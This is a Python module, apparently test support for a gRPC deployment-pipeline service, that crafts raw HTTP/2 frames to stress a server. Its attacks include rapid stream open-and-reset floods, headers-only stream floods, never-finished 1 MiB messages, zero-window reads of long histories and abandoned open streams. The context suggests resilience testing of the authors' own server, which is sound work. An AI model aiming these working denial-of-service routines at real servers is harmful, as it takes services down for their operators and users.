"""Hostile HTTP/2, over plain sockets.

An attack is a function of a server's address that returns a context: while that is open the attack stands,
with its connections and whatever it left unfinished on them.
"""

import contextlib
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import TypeAlias

from dp.v1 import deployment_pipeline_pb2 as pb
from support.clients import SERVICE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
FRAME_BYTES = 16_384
FIRST_WINDOW = 65_535
MIB = 1024 * 1024
STREAMS = 100  # what a connection may have open: DP_MAX_STREAMS

Attack: TypeAlias = Callable[[str], contextlib.AbstractContextManager[None]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def message(data: bytes) -> bytes:
    return b"\0" + len(data).to_bytes(4) + data


def end_of(request: bytes) -> Callable[[int], bytes]:
    """A whole request, for a stream."""
    return lambda stream: frame(DATA, END_STREAM, stream, message(request))


def header_block(path: str, *more: tuple[str, bytes]) -> bytes:
    """Written out, so that no table need be kept. more: headers, each shorter than 127 bytes."""
    usual = {":path": path, ":authority": "x", "te": "trailers", "content-type": "application/grpc"}
    headers = [*((name, value.encode()) for name, value in usual.items()), *more]
    literal = b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value for name, value in headers
    )
    return bytes([0x80 | 3, 0x80 | 6]) + literal  # :method POST, :scheme http


class Peer:
    """One connection. It keeps to the flow control, else it would just be closed, and to nothing else."""

    def __init__(self, address: str, *, window: int = FIRST_WINDOW) -> None:
        """window: how much it lets the server send on a stream."""
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)))
        self._unread = b""
        self._stream = 1
        self._first_window = FIRST_WINDOW
        self._windows: dict[int, int] = {0: FIRST_WINDOW}
        setting = INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0, setting))
        self._owed = b""  # acknowledgements
        self.closed = False

    @property
    def streams(self) -> int:
        """How many are open."""
        return len(self._windows) - 1

    def open(self, block: bytes, *more: Callable[[int], bytes]) -> int:
        """Headers, and what else there is to send on that stream."""
        stream, self._stream = self._stream, self._stream + 2
        self._windows[stream] = self._first_window
        self.send(frame(HEADERS, END_HEADERS, stream, block) + b"".join(made(stream) for made in more))
        return stream

    def flood(self, block: bytes, count: int, *, resets: bool) -> None:
        """So many streams at once, with headers only."""
        head = len(block).to_bytes(3) + bytes([HEADERS, END_HEADERS])
        tail = b"\0\0\4" + bytes([RST_STREAM, 0])
        code = CANCEL.to_bytes(4)
        parts = []
        for stream in range(self._stream, self._stream + 2 * count, 2):
            id = struct.pack(">I", stream)
            parts.append(head + id + block + (tail + id + code if resets else b""))
        self._stream += 2 * count
        self.send(b"".join(parts))

    def send(self, data: bytes) -> None:
        """Reads while it cannot write: the server may not read before it has been read."""
        view = memoryview(self._owed + data)
        self._owed = b""
        while view and not self.closed:
            readable, writable, _ = select.select([self._socket], [self._socket], [], 1)
            if readable:
                self._receive()
            if writable:
                try:
                    view = view[self._socket.send(view, socket.MSG_DONTWAIT) :]
                except (BrokenPipeError, ConnectionResetError):
                    self.closed = True

    def send_data(self, left: dict[int, memoryview]) -> None:
        """What is left for each stream, as far as the server lets it now."""
        frames = bytearray()
        for stream, rest in [*left.items()]:
            allowed = min(self._windows[0], self._windows.get(stream, 0))
            sent, left[stream] = rest[:allowed], rest[allowed:]
            for at in range(0, len(sent), FRAME_BYTES):
                frames += frame(DATA, 0, stream, bytes(sent[at : at + FRAME_BYTES]))
            self._windows[0] -= len(sent)
            if stream in self._windows:
                self._windows[stream] -= len(sent)
            if not left[stream] or stream not in self._windows:
                del left[stream]
        self.send(bytes(frames))

    def listen(self, seconds: float) -> None:
        """Read whatever comes within that time, or until something has come."""
        if not self.closed and select.select([self._socket], [], [], seconds)[0]:
            self._receive()
            self.send(b"")

    def close(self) -> None:
        self._socket.close()

    def _receive(self) -> None:
        try:
            data = self._socket.recv(MIB)
        except ConnectionResetError:
            data = b""
        self.closed = not data
        data = self._unread + data
        at = 0
        while at + 9 <= len(data) and (end := at + 9 + int.from_bytes(data[at : at + 3])) <= len(data):
            stream = int.from_bytes(data[at + 5 : at + 9])
            self._received(data[at + 3], data[at + 4], stream, data[at + 9 : end])
            at = end
        self._unread = data[at:]

    def _change_windows(self, size: int) -> None:
        more, self._first_window = size - self._first_window, size
        for stream in [*self._windows][1:]:
            self._windows[stream] += more

    def _received(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload)
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2]) == INITIAL_WINDOW_SIZE:
                    self._change_windows(int.from_bytes(payload[at + 2 : at + 6]))
            self._owed += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK:
            self._owed += frame(PING, ACK, 0, payload)
        elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
            self._windows.pop(stream, None)


@contextlib.contextmanager
def peers(address: str, count: int, *, window: int = FIRST_WINDOW) -> Iterator[list[Peer]]:
    made: list[Peer] = []
    try:
        for _ in range(count):
            made.append(Peer(address, window=window))
            made[-1].listen(1)
        yield made
    finally:
        for peer in made:
            peer.close()


def call(address: str, method: str, request: bytes, *more: tuple[str, bytes]) -> None:
    """One call with such headers, to its end."""
    with peers(address, 1) as [peer]:
        peer.open(header_block(f"/{SERVICE}/{method}", *more), end_of(request))
        while peer.streams and not peer.closed:
            peer.listen(1)


GET = header_block(f"/{SERVICE}/GetPipeline")
HISTORY = header_block(f"/{SERVICE}/GetHistory")
WATCH = header_block("/grpc.health.v1.Health/Watch")
REFLECTION = header_block("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")


def resets(seconds: float) -> Attack:
    """A flood of streams, each opened and reset."""

    @contextlib.contextmanager
    def attack(address: str) -> Iterator[None]:
        with peers(address, 1) as [peer]:
            end = time.monotonic() + seconds
            while time.monotonic() < end and not peer.closed:
                peer.flood(GET, 200, resets=True)
                peer.listen(0)
            yield

    return attack


def headers_only(streams: int, connections: int = 1) -> Attack:
    @contextlib.contextmanager
    def attack(address: str) -> Iterator[None]:
        with peers(address, connections) as made:
            for peer in made:
                for _ in range(streams // connections // 200):
                    peer.flood(GET, 200, resets=False)
                    peer.listen(0)
            yield

    return attack


def unfinished(messages: int, seconds: float) -> Attack:
    """That many messages of 1 MiB at a time that lack their last byte, on as many connections as it takes.
    What the server gives up is begun again."""

    @contextlib.contextmanager
    def attack(address: str) -> Iterator[None]:
        almost = memoryview(message(bytes(MIB - 16))[:-1])
        with peers(address, -(-messages // STREAMS)) as made:
            left: list[dict[int, memoryview]] = [{} for _ in made]
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                for peer, streams in zip(made, left, strict=True):
                    while peer.streams < messages // len(made) and not peer.closed:
                        streams[peer.open(GET)] = almost
                    peer.send_data(streams)
                    peer.listen(0)
            yield

    return attack


def unread_history(pipeline: str, calls: int) -> Attack:
    """Long answers that nobody reads: no stream has a window."""
    request = pb.GetHistoryRequest(pipeline_name=pipeline, limit=1000).SerializeToString()

    @contextlib.contextmanager
    def attack(address: str) -> Iterator[None]:
        with peers(address, -(-calls // STREAMS), window=0) as made:
            for peer in made:
                for _ in range(calls // len(made)):
                    peer.open(HISTORY, end_of(request))
            yield

    return attack


def streams(block: bytes, count: int) -> Attack:
    """Streams that are opened and never left."""

    @contextlib.contextmanager
    def attack(address: str) -> Iterator[None]:
        with peers(address, -(-count // STREAMS)) as made:
            for peer in made:
                for _ in range(count // len(made)):
                    peer.open(block, lambda stream: frame(DATA, 0, stream, message(b"")))
                peer.listen(0)
            yield

    return attack
